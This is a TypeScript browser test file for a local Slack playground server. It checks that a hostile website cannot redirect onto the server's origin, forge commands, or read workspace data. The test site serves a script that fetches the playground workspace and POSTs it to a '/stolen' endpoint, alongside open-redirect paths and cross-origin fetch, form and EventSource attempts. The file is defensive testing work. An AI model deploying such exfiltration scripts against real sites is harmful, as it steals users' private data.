import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type SlackServer, startSlackServer } from '../../src/playground/slack-server/server.ts';
import { tinyOptions } from '../playground/slack-server/tiny-app.ts';
import { findChromium, openBrowser } from '../support/browser.ts';

const chromium = findChromium();

describe.skipIf(chromium === undefined)('a website that is open beside the playground', () => {
  let browser: Awaited<ReturnType<typeof openBrowser>>;
  let slack: SlackServer;
  let app: Server;
  let site: Server;
  /** What reached the app, what the site was asked for, and what its scripts got. */
  let reached: string[] = [];
  let asked: string[] = [];
  let stolen: string[] = [];
  const folder = mkdtempSync(join(tmpdir(), 'rollcall-sites-'));
  const listening = async (server: Server): Promise<Server> => {
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    return server;
  };
  const portOf = (server: Server): number => (server.address() as AddressInfo).port;

  beforeAll(async () => {
    writeFileSync(join(folder, 'index.html'), '<!doctype html><title>The page</title>');
    slack = await startSlackServer(tinyOptions({ pageRoot: folder }));
    app = await listening(
      createServer((request, response) => {
        reached.push(`${request.method} ${request.url}`);
        response.end('{"of": "the app"}');
      }),
    );
    // Whatever it is asked for, it answers with a script that reads the playground and reports what it got.
    site = await listening(
      createServer(async (request, response) => {
        const url = request.url ?? '';
        let body = '';
        for await (const part of request) body += part;
        if (url === '/stolen') stolen.push(body);
        else if (url !== '/' && url !== '/favicon.ico') asked.push(url);
        response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
        response.end(`<!doctype html><title>A website</title><script>
          if (location.origin === '${slack.url}') fetch('/playground/workspace').then((answer) => answer.text())
            .then((text) => fetch('http://127.0.0.1:${portOf(site)}/stolen', { method: 'POST', body: text }));
        </script>`);
      }),
    );
    slack.connectApp(`http://127.0.0.1:${portOf(app)}/slack/events`);
    browser = await openBrowser(chromium as string);
  });
  afterAll(async () => {
    await browser?.close();
    await slack?.close();
    for (const server of [app, site]) {
      server?.closeAllConnections();
      server?.close();
    }
    rmSync(folder, { recursive: true, force: true });
  });
  beforeEach(async () => {
    [reached, asked, stolen] = [[], [], []];
    await browser.page.goto(`http://127.0.0.1:${portOf(site)}/`);
  });
  const expectNothing = () => {
    expect({ reached, asked, stolen }).toEqual({ reached: [], asked: [], stolen: [] });
    expect(slack.journal).toEqual([]);
    expect(slack.messagesFor('U0ADA')).toEqual([]);
  };

  it.each(['//SITE/api/v1/steal', '//SITE/webhooks/steal', '//SITE/healthz', '/.//SITE/api/v1/steal'])(
    'gets no page of its own onto the playground’s origin by %s',
    async (path) => {
      const { page } = browser;
      const address = slack.url + path.replace('SITE', `127.0.0.1:${portOf(site)}`);
      // As a link, which anyone may have clicked.
      await page.setContent(`<a href="${address}">Click</a>`);
      await Promise.all([page.waitForEvent('framenavigated'), page.click('a')]);
      await page.waitForLoadState();
      expect(new URL(page.url()).origin).toBe(slack.url);
      expect(await page.title()).not.toBe('A website');
      expectNothing();
    },
  );

  it('can’t get requests passed on to the app by a link, a form, a frame, an image or a fetch', async () => {
    const { page } = browser;
    for (const path of ['/healthz', '/api/v1/openapi.json']) {
      await page.goto(`http://127.0.0.1:${portOf(site)}/`);
      await page.setContent(`<a href="${slack.url}${path}">Click</a>`);
      await Promise.all([page.waitForEvent('framenavigated'), page.click('a')]);
      await page.goto(`http://127.0.0.1:${portOf(site)}/`);
      const form = `<form method="post" enctype="text/plain" action="${slack.url}${path}"><button>Go</button></form>`;
      await page.setContent(form);
      await Promise.all([page.waitForEvent('framenavigated'), page.click('button')]);
      // An address that someone types follows the same rule.
      await page.goto(slack.url + path);
      expect(await page.textContent('body')).toContain(`can only open ${slack.url}/`);
    }
    await page.goto(`http://127.0.0.1:${portOf(site)}/`);
    const address = `${slack.url}/healthz`;
    // Loaded once everything that it embeds has been answered.
    await page.setContent(
      `<img src="${address}"><script src="${address}"></script><link rel="stylesheet" href="${address}">
       <iframe src="${address}"></iframe><video src="${address}"></video>`,
    );
    await page.evaluate(async (url) => {
      await Promise.allSettled([
        fetch(url),
        fetch(url, { mode: 'no-cors', method: 'POST', body: '{}', keepalive: true }),
        fetch(url, { method: 'PUT' }),
      ]);
    }, address);
    expectNothing();
  });

  it('can’t type commands, click buttons or read messages', async () => {
    const { page } = browser;
    const say = { person: 'U0ADA', channel: 'C0GENERAL', text: '/hello from elsewhere' };
    const outcomes = await page.evaluate(
      async ({ url, say }) => {
        const tries: Promise<unknown>[] = [];
        for (const mode of ['cors', 'no-cors'] as const) {
          for (const type of ['text/plain', 'application/json']) {
            tries.push(
              fetch(`${url}/playground/say`, {
                method: 'POST',
                mode,
                headers: { 'content-type': type },
                body: JSON.stringify(say),
              }).then((answer) => answer.text()),
            );
          }
          tries.push(fetch(`${url}/playground/workspace`, { mode }).then((answer) => answer.text()));
        }
        const source = new EventSource(`${url}/playground/events?person=U0ADA`);
        tries.push(
          new Promise((resolve) => {
            source.onmessage = ({ data }) => resolve(data);
            source.onerror = () => resolve('');
          }),
        );
        const settled = await Promise.allSettled(tries);
        source.close();
        return settled.map((each) => (each.status === 'fulfilled' ? String(each.value) : ''));
      },
      { url: slack.url, say },
    );
    expect(new Set(outcomes)).toEqual(new Set(['']));
    expectNothing();
  });

  it('may link to the page, but can’t look into it', async () => {
    const { page } = browser;
    await page.setContent(`<a href="${slack.url}/">Click</a><iframe src="${slack.url}/"></iframe>`);
    await page.waitForTimeout(300);
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    expect(await framed?.title()).not.toBe('The page');
    await page.click('a');
    await page.waitForURL(`${slack.url}/`);
    expect(await page.title()).toBe('The page');
  });
});
